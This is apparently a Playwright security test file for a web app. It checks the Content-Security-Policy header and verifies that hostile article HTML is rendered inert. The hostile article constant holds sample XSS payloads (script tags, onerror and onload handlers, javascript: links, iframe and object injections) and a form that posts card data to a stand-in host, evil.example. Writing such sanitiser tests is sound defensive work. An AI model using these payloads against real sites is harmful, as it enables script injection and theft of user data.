import { expect, test } from './support/world';

/**
 * Input safety in the browser: the served app carries a Content-Security-Policy, and article
 * HTML with scripts and event handlers is rendered inert. The article answer is replaced in the
 * browser with a hostile one (the simulator has no way to store such an article), so the real
 * app's sanitiser and the real policy are what stand between it and the page.
 */
const HOSTILE_ARTICLE = [
  '<h1>Hostile terms</h1>',
  '<p id="kept">Plain text survives.</p>',
  '<script>window.__pwned = "script"</script>',
  '<img src="x" onerror="window.__pwned = \'onerror\'">',
  '<svg onload="window.__pwned = \'svg\'"><circle r="4"/></svg>',
  '<a id="js-link" href="javascript:window.__pwned = \'href\'">click me</a>',
  '<iframe src="javascript:parent.__pwned = \'iframe\'"></iframe>',
  '<object data="data:text/html,<script>parent.__pwned=1</script>"></object>',
  '<form action="https://evil.example/steal"><input name="card"><button>Send</button></form>',
  '<div style="background:url(javascript:alert(1))" onmouseover="window.__pwned = \'hover\'">hover</div>',
].join('\n');

test.describe('security of the served app', () => {
  test('GET / carries a Content-Security-Policy that keeps scripts to our origin and its nonce', async ({
    request,
  }) => {
    const response = await request.get('/');
    expect(response.ok()).toBe(true);
    const policy = response.headers()['content-security-policy'] ?? '';
    expect(policy).toContain("default-src 'self'");
    // Our origin, and the operator's scripts the app injects with this answer's nonce (decision 015).
    expect(/script-src ([^;]*)/.exec(policy)?.[1]).toMatch(/^'self' 'nonce-[A-Za-z0-9+/]+=*'$/);
    expect(policy).toContain("object-src 'none'");
  });

  test.describe('hostile article', () => {
    // The test feeds hostile HTML on purpose. Chrome reports every inline handler it meets while
    // the sanitiser parses that HTML into an inert document (DOMParser, <template>): the handler is
    // refused, never run; and its <img src="x"> asks for /x, a 404. Only those are allowed.
    test.use({
      // One pattern: Playwright reads a two-element array as [value, fixture options].
      allowConsoleErrors: [
        /^(Executing inline event handler violates|CSP violation: script-src-attr refused inline|Failed to load resource: .*\/x:0\]$)/,
      ],
    });

    test('article HTML with scripts and event handlers is rendered inert', async ({ page }) => {
      const dialogs: string[] = [];
      page.on('dialog', (dialog) => {
        dialogs.push(dialog.message());
        void dialog.dismiss();
      });
      // The real answer with its content swapped, so the envelope keeps every field the contract has.
      await page.route('**/api/base/article/get', async (route) => {
        const real = await route.fetch();
        const body = (await real.json()) as { data: Record<string, unknown> };
        await route.fulfill({
          response: real,
          json: { ...body, data: { ...body.data, content: HOSTILE_ARTICLE } },
        });
      });
      await page.goto('/#/article?id=1');
      await expect(page.getByRole('heading', { name: 'Hostile terms' })).toBeVisible();
      await expect(page.locator('#kept')).toHaveText('Plain text survives.');

      const article = page.locator('.article__html');
      await expect(article.locator('script, iframe, object, embed, form, svg')).toHaveCount(0);
      const handlerAttributes = await article.evaluate((root) =>
        [root, ...Array.from(root.querySelectorAll('*'))].flatMap((element) =>
          Array.from(element.attributes)
            .filter((attribute) => attribute.name.startsWith('on'))
            .map((attribute) => attribute.name),
        ),
      );
      expect(handlerAttributes).toEqual([]);
      const jsLinks = await article
        .locator('a')
        .evaluateAll((links) =>
          links
            .map((link) => link.getAttribute('href') ?? '')
            .filter((href) => /^\s*javascript:/i.test(href)),
        );
      expect(jsLinks).toEqual([]);

      // Try to trigger whatever might have survived.
      await article.getByText('hover').hover();
      const link = article.getByText('click me');
      if (await link.count()) await link.click({ noWaitAfter: true });
      await page.waitForTimeout(300);
      expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
      expect(dialogs).toEqual([]);
    });
  });
});
